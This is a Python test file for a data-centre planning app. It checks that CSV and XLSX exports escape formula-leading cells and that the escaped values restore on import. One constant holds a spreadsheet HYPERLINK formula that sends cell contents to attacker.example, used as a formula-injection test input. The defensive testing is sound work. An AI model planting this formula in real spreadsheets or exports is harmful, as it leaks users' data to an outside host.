"""Exports cannot run code: text starting with = + - @ tab or CR is text in CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from dcops.cells import csv_cell, unescape
from tests.capacity.test_plan_api import PLAN, city, plan_client  # noqa: F401  (fixtures)

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"details")'
WHAT_IF = {"years": 2, "model": "rack-x2"}


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_formula_starts_are_escaped_and_come_back_on_import(value):
    assert csv_cell(value) == "'" + value
    assert unescape(csv_cell(value)) == value


@pytest.mark.parametrize("value", [-5, -12.5, "-12.5", "+3", "1e5", "plain", "", 0])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def _rename_first_agency(session, name):
    from dcops.tenancy.models import Agency

    first = session.execute(Agency.__table__.select().order_by(Agency.id).limit(1)).first()
    session.execute(update(Agency).where(Agency.id == first.id).values(name=name))
    session.commit()
    return first.code


def test_the_budget_xlsx_holds_no_formula(plan_client, tokens, city, session):  # noqa: F811
    _rename_first_agency(session, EVIL)
    r = plan_client.post(f"{PLAN}/export", params={"format": "xlsx"}, json=WHAT_IF, headers=tokens.headers("planner"))
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    numbers = [c.value for c in cells if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert numbers, "numeric cells must stay numeric"


def test_the_budget_csv_escapes_an_agency_named_as_a_formula(plan_client, tokens, city, session):  # noqa: F811
    code = _rename_first_agency(session, EVIL)
    r = plan_client.post(f"{PLAN}/export", params={"format": "csv", "table": "agencies"}, json=WHAT_IF,
                         headers=tokens.headers("planner"))
    rows = [row for row in csv.DictReader(io.StringIO(r.text)) if row["agency_code"] == code]
    assert rows and all(row["agency_name"] == "'" + EVIL for row in rows)
    assert all(not v.startswith("=") for row in csv.DictReader(io.StringIO(r.text)) for v in row.values())


def test_transfer_csv_export_escapes_and_the_import_takes_it_back(client, admin, factory):
    agency = factory.agency(code="EVIL", name=EVIL, description="-drop")
    r = client.get("/api/v1/export/agencies?format=csv", headers=admin)
    assert r.status_code == 200
    row = next(csv.DictReader(io.StringIO(r.text)))
    assert row["name"] == "'" + EVIL and row["description"] == "'-drop"
    body = r.text.encode()
    assert client.delete(f"/api/v1/tenancy/agencies/{agency.id}", headers=admin).status_code == 204
    r = client.post("/api/v1/import/agencies", content=body, headers=admin | {"Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    got = client.get("/api/v1/tenancy/agencies?q=evil", headers=admin).json()["data"][0]
    assert got["name"] == EVIL and got["description"] == "-drop"
